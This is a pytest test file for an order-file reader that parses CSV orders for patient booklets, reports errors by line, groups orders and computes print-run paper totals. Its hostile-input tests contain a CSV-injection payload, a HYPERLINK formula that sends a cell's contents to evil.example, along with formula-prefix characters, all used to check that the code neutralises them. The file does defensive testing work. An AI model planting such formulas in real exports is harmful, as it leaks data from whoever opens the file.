"""Order files: every error with its line, grouping, a print-run summary worked by hand, the form."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from booklet import orders
from booklet.errors import ContentError
from booklet.orders import Order, RunLine

AVAILABLE = {
    "SLC-01": ("standard", "large-print"),
    "BRC-02": ("standard",),
    "LNG-03": ("standard", "large-print", "easy-read"),
}
HEADER = "code,variant,quantity,ordered_by\n"


def write(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "orders.csv"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def problems(tmp_path: Path, text: str | bytes) -> list[tuple[int | None, str, str]]:
    """Read an order file that must fail; return (line, message, hint) of every problem."""
    with pytest.raises(ContentError) as caught:
        orders.read_orders(write(tmp_path, text), AVAILABLE)
    return [(p.line, p.message, p.fix) for p in caught.value.problems]


# Reading good files


def test_reads_orders_with_their_lines(tmp_path: Path) -> None:
    text = HEADER + "SLC-01,standard,25,Ward 7\n\nBRC-02,standard,3,Dr Patel\n"
    assert orders.read_orders(write(tmp_path, text), AVAILABLE) == [
        Order(2, "SLC-01", "standard", 25, "Ward 7"),
        Order(4, "BRC-02", "standard", 3, "Dr Patel"),
    ]


def test_spreadsheet_export_is_understood(tmp_path: Path) -> None:
    """A BOM, CRLF, header names in other case and order, spaces, lower-case codes, extra columns."""
    text = (
        "\ufeffOrdered by , Quantity,Code,Variant,Notes\r\n"
        '"Smith, J", 2 ,slc-01,Large-Print,please post\r\n'
        ",,,,\r\n"
        "Ward 7,1,lng-03,easy-read,\r\n"
    )
    assert orders.read_orders(write(tmp_path, text), AVAILABLE) == [
        Order(2, "SLC-01", "large-print", 2, "Smith, J"),
        Order(4, "LNG-03", "easy-read", 1, "Ward 7"),
    ]


def test_a_row_spanning_lines_is_numbered_by_its_first_line(tmp_path: Path) -> None:
    text = HEADER + 'SLC-01,standard,1,"Ward 7\nBlock B"\nBRC-02,standard,many,Ann\n'
    assert problems(tmp_path, text)[0][:2] == (4, "quantity 'many' is not a whole number of copies")


def test_rows_of_the_blank_form_left_empty_are_skipped(tmp_path: Path) -> None:
    text = HEADER + "SLC-01,standard,,\nSLC-01,large-print,4,Ann\nOLD-99,standard,,\n"
    assert orders.read_orders(write(tmp_path, text), AVAILABLE) == [
        Order(3, "SLC-01", "large-print", 4, "Ann")
    ]


def test_ordered_by_may_be_empty(tmp_path: Path) -> None:
    rows = orders.read_orders(
        write(tmp_path, HEADER + "SLC-01,standard,5,\nBRC-02,standard,+3,Ann\n"), AVAILABLE
    )
    assert rows == [Order(2, "SLC-01", "standard", 5, ""), Order(3, "BRC-02", "standard", 3, "Ann")]


# Every error, each with its line


@pytest.mark.parametrize(
    ("row", "message", "hint"),
    [
        ("SLC-1,standard,2,Ann", "unknown booklet code 'SLC-1'", "did you mean SLC-01?"),
        ("XYZ,standard,2,Ann", "unknown booklet code 'XYZ'", "from the catalogue: BRC-02, LNG-03, SLC-01"),
        (",standard,2,Ann", "the code is empty", "order code"),
        (
            "BRC-02,large-print,2,Ann",
            "booklet BRC-02 has no variant 'large-print'",
            "BRC-02 comes in: standard",
        ),
        ("SLC-01,,2,Ann", "the variant is empty", "SLC-01 comes in: standard, large-print"),
        ("SLC-01,standard,3.5,Ann", "quantity '3.5' is not a whole number of copies", "number of copies"),
        ("SLC-01,standard,-1,Ann", "quantity '-1' must be at least 1", "number of copies"),
        ("SLC-01,standard,0,Ann", "quantity '0' must be at least 1", "to order none, delete the row"),
        ("SLC-01,standard,2 copies,Ann", "quantity '2 copies' is not a whole number of copies", "e.g. 25"),
        ("SLC-01,standard,lots,Ann", "quantity 'lots' is not a whole number of copies", "e.g. 25"),
        ("SLC-01,standard,,Ann", "the quantity is empty", "number of copies"),
        ("SLC-01,standard,1e3,Ann", "quantity '1e3' is not a whole number of copies", "number of copies"),
        ("SLC-01,standard,\u0663,Ann", "quantity '\u0663' is not a whole number of copies", "e.g. 25"),
        ("SLC-01,standard,2,Smith, J", "the row has 5 values but the header has 4 columns", "put quotes"),
    ],
)
def test_row_error(tmp_path: Path, row: str, message: str, hint: str) -> None:
    found = problems(tmp_path, HEADER + "SLC-01,standard,1,Ann\n\n" + row + "\n")
    assert len(found) == 1
    line, got, got_hint = found[0]
    assert (line, got) == (4, message)
    assert hint in got_hint


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    text = HEADER + "SLC-1,standard,2,Ann\nSLC-01,standard,1,Bob\nBRC-02,easy,0,Cy\n\nXYZ,,lots,Di\n"
    found = [(line, message) for line, message, _ in problems(tmp_path, text)]
    assert found == [
        (2, "unknown booklet code 'SLC-1'"),
        (4, "booklet BRC-02 has no variant 'easy'"),
        (4, "quantity '0' must be at least 1"),
        (6, "unknown booklet code 'XYZ'"),
        (6, "quantity 'lots' is not a whole number of copies"),
    ]


def test_error_text_names_file_and_line(tmp_path: Path) -> None:
    with pytest.raises(ContentError) as caught:
        orders.read_orders(write(tmp_path, HEADER + "SLC-01,standard,0,Ann\n"), AVAILABLE)
    assert str(caught.value).startswith(
        f"{tmp_path / 'orders.csv'}:2: quantity '0' must be at least 1\n    Fix: "
    )


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("code,variant,ordered_by", "column 'quantity' is missing from the header"),
        ("code,variant,quantity", "column 'ordered_by' is missing from the header"),
        ("code,variant,qty,ordered_by", "column 'quantity' is missing from the header"),
        ("code,code,variant,quantity,ordered_by", "column 'code' appears twice in the header"),
        ("SLC-01,standard,3,Ann", "has no header line (found SLC-01,standard,3,Ann)"),
    ],
)
def test_header_error(tmp_path: Path, header: str, message: str) -> None:
    found = problems(tmp_path, f"\n{header}\nSLC-01,standard,3,Ann\n")
    assert [(line, got) for line, got, _ in found] == [(2, message)]
    if "twice" not in message:
        assert found[0][2] == "the first line must be the header: code,variant,quantity,ordered_by"


def test_every_missing_column_is_named(tmp_path: Path) -> None:
    found = problems(tmp_path, "code,ordered_by\nSLC-01,Ann\n")
    assert [message for _, message, _ in found] == [
        "column 'variant' is missing from the header",
        "column 'quantity' is missing from the header",
    ]


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("", None, "is empty"),
        ("\n\r\n,,,\n", None, "is empty"),
        (HEADER, None, "orders nothing: no row has a quantity"),
        (HEADER + "SLC-01,standard,,\n", None, "orders nothing: no row has a quantity"),
        ((HEADER + "SLC-01,standard,2,Zo\xeb\n").encode("latin-1"), 2, "is not valid UTF-8 (byte 53)"),
    ],
)
def test_file_error(tmp_path: Path, text: str | bytes, line: int | None, message: str) -> None:
    assert [(got_line, got) for got_line, got, _ in problems(tmp_path, text)] == [(line, message)]


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ContentError, match="file not found"):
        orders.read_orders(tmp_path / "nope.csv", AVAILABLE)


# Grouping and the print-run summary


ORDERS = [
    Order(2, "SLC-01", "standard", 10, "Ward 7"),
    Order(3, "BRC-02", "standard", 4, "Dr Patel"),
    Order(4, "SLC-01", "large-print", 5, "Ann"),
    Order(5, "SLC-01", "standard", 15, "clinic B"),
    Order(6, "SLC-01", "standard", 1, "Ward 7"),
    Order(7, "SLC-01", "large-print", 1, ""),
]


def test_group_adds_up_per_booklet_variant() -> None:
    assert orders.group(ORDERS) == [
        RunLine("BRC-02", "standard", 4, ("Dr Patel",)),
        RunLine("SLC-01", "large-print", 6, ("Ann",)),
        RunLine("SLC-01", "standard", 26, ("clinic B", "Ward 7")),
    ]


def test_group_of_nothing_is_empty() -> None:
    assert orders.group([]) == []


# Worked by hand:
#   SLC-01 standard:    36 pages -> 36 (no padding) / 4 = 9 sheets; 25 copies -> 225 sheets of A4
#   SLC-01 large-print: 13 pages -> 16 (3 notes pages) / 4 = 4 sheets; 10 copies -> 40 sheets of A3
#   BRC-02 standard:     6 pages ->  8 (2 notes pages) / 4 = 2 sheets;  1 copy  ->   2 sheets of A4
#   Total: 36 copies; 227 sheets of A4 and 40 of A3, 267 sheets in all.
RUN = [
    RunLine("BRC-02", "standard", 1, ("Dr Patel",)),
    RunLine("SLC-01", "large-print", 10, ("Ann",)),
    RunLine("SLC-01", "standard", 25, ("clinic B", "Ward 7")),
]
PAGES = {("SLC-01", "standard"): 36, ("SLC-01", "large-print"): 13, ("BRC-02", "standard"): 6}


def test_summary_worked_by_hand() -> None:
    summary = orders.summarise(RUN, PAGES)
    rows = [
        (
            s.code,
            s.variant,
            s.copies,
            s.printed_pages,
            s.pages_per_copy,
            s.notes_pages,
            s.sheets_per_copy,
            s.total_sheets,
            s.paper,
        )
        for s in summary.lines
    ]
    assert rows == [
        ("BRC-02", "standard", 1, 6, 8, 2, 2, 2, "A4"),
        ("SLC-01", "large-print", 10, 13, 16, 3, 4, 40, "A3"),
        ("SLC-01", "standard", 25, 36, 36, 0, 9, 225, "A4"),
    ]
    assert summary.copies == 36
    assert summary.total_sheets == 267
    assert summary.sheets_by_paper == {"A3": 40, "A4": 227}


def test_summary_paper_can_be_given() -> None:
    summary = orders.summarise(RUN[:1], PAGES, paper={})
    assert summary.lines[0].paper == ""
    assert orders.summary_text(summary).endswith("2 sheets of paper (each printed on both sides)\n")


def test_summary_needs_every_page_count() -> None:
    with pytest.raises(ValueError, match="no page count for SLC-01 standard"):
        orders.summarise(RUN, {("BRC-02", "standard"): 6, ("SLC-01", "large-print"): 13})


def test_run_csv() -> None:
    assert orders.run_csv(orders.summarise(RUN, PAGES)) == (
        "code,variant,copies,pages_per_copy,sheets_per_copy,total_sheets,ordered_by\n"
        "BRC-02,standard,1,8,2,2,Dr Patel\n"
        "SLC-01,large-print,10,16,4,40,Ann\n"
        "SLC-01,standard,25,36,9,225,clinic B; Ward 7\n"
    )


def test_summary_text() -> None:
    assert orders.summary_text(orders.summarise(RUN, PAGES)) == (
        "BRC-02 standard: 1 copy x 8 pages (6 + 2 notes) = 2 sheets of A4 each, 2 sheets of A4\n"
        "SLC-01 large-print: 10 copies x 16 pages (13 + 3 notes) = 4 sheets of A3 each, 40 sheets of A3\n"
        "SLC-01 standard: 25 copies x 36 pages = 9 sheets of A4 each, 225 sheets of A4\n"
        "Total: 36 copies of 3 booklet variant(s); 40 sheets of A3, 227 sheets of A4 "
        "(each printed on both sides)\n"
    )


def test_whole_file_to_run_csv(tmp_path: Path) -> None:
    text = HEADER + "SLC-01,standard,10,Ward 7\nslc-01,Standard,15,clinic B\nBRC-02,standard,1,Dr Patel\n"
    lines = orders.group(orders.read_orders(write(tmp_path, text), AVAILABLE))
    assert orders.run_csv(orders.summarise(lines, PAGES)).splitlines()[1:] == [
        "BRC-02,standard,1,8,2,2,Dr Patel",
        "SLC-01,standard,25,36,9,225,clinic B; Ward 7",
    ]


# The blank order form


def test_template_lists_every_code_and_variant() -> None:
    titles = {"SLC-01": "Secondary liver cancer", "BRC-02": 'Breast cancer, "early"'}
    assert orders.template_csv(AVAILABLE, titles) == (
        "code,variant,quantity,ordered_by,title\n"
        'BRC-02,standard,,,"Breast cancer, ""early"""\n'
        "LNG-03,standard,,,\n"
        "LNG-03,large-print,,,\n"
        "LNG-03,easy-read,,,\n"
        "SLC-01,standard,,,Secondary liver cancer\n"
        "SLC-01,large-print,,,Secondary liver cancer\n"
    )


def test_filled_in_template_reads_back(tmp_path: Path) -> None:
    form = orders.template_csv(AVAILABLE, {"SLC-01": "Secondary liver cancer"}).splitlines()
    form[6] = "SLC-01,large-print,12,Ward 7,Secondary liver cancer"
    path = write(tmp_path, "\r\n".join(form) + "\r\n")
    assert orders.read_orders(path, AVAILABLE) == [Order(7, "SLC-01", "large-print", 12, "Ward 7")]


# Hostile input (issue 12): formulas, broken quoting, limits

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'


def test_formula_in_ordered_by_is_neutralised_in_run_csv(tmp_path: Path) -> None:
    """A spreadsheet opening run.csv shows the name as text and never runs it (OWASP CSV injection)."""
    quoted = HYPERLINK.replace('"', '""')
    text = HEADER + f'SLC-01,standard,10,"{quoted}"\n'
    lines = orders.group(orders.read_orders(write(tmp_path, text), AVAILABLE))
    assert lines[0].ordered_by == (HYPERLINK,)
    run = orders.run_csv(orders.summarise(lines, PAGES))
    rows = list(csv.reader(io.StringIO(run, newline="")))
    assert rows[1][-1] == "'" + HYPERLINK


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_written_is_neutralised(start: str) -> None:
    name = f"{start}1+1"
    safe = f"'{name}".replace("\r", "\n")  # a line break inside a cell is written as \n
    run = orders.run_csv(orders.summarise([RunLine("BRC-02", "standard", 1, (name,))], PAGES))
    assert list(csv.reader(io.StringIO(run, newline="")))[1][-1] == safe
    form = orders.template_csv({"BRC-02": ("standard",)}, {"BRC-02": name})
    assert list(csv.reader(io.StringIO(form, newline="")))[1] == ["BRC-02", "standard", "", "", safe]


def test_a_carriage_return_inside_a_name_does_not_split_the_row() -> None:
    for name, written in (("Ward\r7", "Ward\n7"), ("Ward\r\n7", "Ward\n7")):
        run = orders.run_csv(orders.summarise([RunLine("BRC-02", "standard", 1, (name,))], PAGES))
        rows = list(csv.reader(io.StringIO(run, newline="")))
        assert len(rows) == 2
        assert rows[1][-1] == written


def test_harmless_cells_are_written_as_they_are() -> None:
    run = orders.run_csv(
        orders.summarise([RunLine("BRC-02", "standard", 1, ("'quoted", "Ann = Bob"))], PAGES)
    )
    assert run.splitlines()[1] == "BRC-02,standard,1,8,2,2,'quoted; Ann = Bob"


def test_unterminated_quote_is_refused_with_the_line_it_opened_on(tmp_path: Path) -> None:
    text = HEADER + 'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,Ann\nSLC-01,large-print,2,Bob\n'
    found = problems(tmp_path, text)
    assert len(found) == 1
    line, message, fix = found[0]
    assert line == 2
    assert "quote" in message
    assert "never closed" in message
    assert "close the quote" in fix


def test_quote_closed_in_the_middle_of_a_later_value_is_refused(tmp_path: Path) -> None:
    text = HEADER + 'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,"Smith, J"\nSLC-01,standard,1,Cy\n'
    assert [(line, message) for line, message, _ in problems(tmp_path, text)] == [
        (2, 'the quote (") opened on this line closes in the middle of a value on line 3')
    ]


def test_unterminated_quote_in_a_big_file_is_named_as_such(tmp_path: Path) -> None:
    """The swallowed rows pass the csv module's own field limit (128 KiB): still the quote is named."""
    text = (
        HEADER + "SLC-01,standard,1,Ann\n" + 'SLC-01,standard,5,"Ward 7\n' + "SLC-01,standard,1,Ann\n" * 7000
    )
    found = problems(tmp_path, text)
    assert [(line, "never closed" in message) for line, message, _ in found] == [(3, True)]


def test_problems_before_a_broken_quote_are_reported_too(tmp_path: Path) -> None:
    text = HEADER + "SLC-01,standard,lots,Ann\n" + 'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,Ann\n'
    assert [line for line, _, _ in problems(tmp_path, text)] == [2, 3]


def test_order_file_size_limit(tmp_path: Path) -> None:
    row = "SLC-01,standard,1,Ann\n"
    filler = "\n" * (orders.MAX_FILE_BYTES - len(HEADER) - len(row) + 1)
    found = problems(tmp_path, HEADER + row + filler)
    assert [(line, message) for line, message, _ in found] == [
        (None, f"is larger than {orders.MAX_FILE_BYTES // 2**20} MB, the most an order file may be")
    ]
    # exactly at the limit is fine
    assert orders.read_orders(write(tmp_path, HEADER + row + filler[:-1]), AVAILABLE)[0].quantity == 1


def test_row_limit(tmp_path: Path) -> None:
    row = "SLC-01,standard,1,Ann\n"
    assert (
        len(orders.read_orders(write(tmp_path, HEADER + row * orders.MAX_ROWS), AVAILABLE)) == orders.MAX_ROWS
    )
    found = problems(tmp_path, HEADER + row * (orders.MAX_ROWS + 1))
    assert [(line, message) for line, message, _ in found] == [
        (orders.MAX_ROWS + 2, f"has more than {orders.MAX_ROWS:,} rows of orders")
    ]


def test_field_length_limit(tmp_path: Path) -> None:
    name = "A" * orders.MAX_FIELD_CHARS
    assert orders.read_orders(write(tmp_path, HEADER + f"SLC-01,standard,1,{name}\n"), AVAILABLE)
    found = problems(tmp_path, HEADER + f"SLC-01,standard,1,{name}B\n")
    assert [(line, message) for line, message, _ in found] == [
        (2, f"the ordered_by value is {orders.MAX_FIELD_CHARS + 1:,} characters long; the most is 1,000")
    ]


@pytest.mark.parametrize("size", [200 * 1024, 2 * 2**20])
def test_field_over_the_csv_modules_own_limit(tmp_path: Path, size: int) -> None:
    """A value over 128 KiB used to end in csv.Error and a traceback."""
    for value in ("A" * size, '"' + "A" * size + '"'):
        found = problems(tmp_path, HEADER + f"SLC-01,standard,1,{value}\nBRC-02,standard,1,Ann\n")
        assert [(line, message) for line, message, _ in found] == [
            (2, f"a value is longer than {orders.MAX_FIELD_CHARS:,} characters")
        ]


@pytest.mark.parametrize(
    ("quantity", "message"),
    [
        ("100001", "quantity '100001' is more than 100,000 copies"),
        ("1" * 50, f"quantity '{'1' * 20}…' has 50 digits; the most is 100,000 copies"),
        ("0" * 20 + "5", f"quantity '{'0' * 20}…' has 21 digits; the most is 100,000 copies"),
        ("-" + "9" * 30, f"quantity '-{'9' * 19}…' has 30 digits; the most is 100,000 copies"),
    ],
)
def test_quantity_limits(tmp_path: Path, quantity: str, message: str) -> None:
    found = problems(tmp_path, HEADER + f"SLC-01,standard,{quantity},Ann\n")
    assert [(line, got) for line, got, _ in found] == [(2, message)]


def test_quantity_of_5000_digits_is_a_clear_error(tmp_path: Path) -> None:
    found = problems(tmp_path, HEADER + f"SLC-01,standard,{'9' * 5000},Ann\n")
    assert [(line, message) for line, message, _ in found] == [
        (2, "the quantity value is 5,000 characters long; the most is 1,000")
    ]


def test_quantity_at_the_limit(tmp_path: Path) -> None:
    text = HEADER + f"SLC-01,standard,{orders.MAX_QUANTITY},Ann\nBRC-02,standard,000000007,Bob\n"
    assert [o.quantity for o in orders.read_orders(write(tmp_path, text), AVAILABLE)] == [
        orders.MAX_QUANTITY,
        7,
    ]


def test_long_values_are_shortened_in_messages(tmp_path: Path) -> None:
    found = problems(tmp_path, HEADER + f"{'X' * 900},standard,1,Ann\n")
    assert found[0][1] == f"unknown booklet code '{'X' * 20}…'"
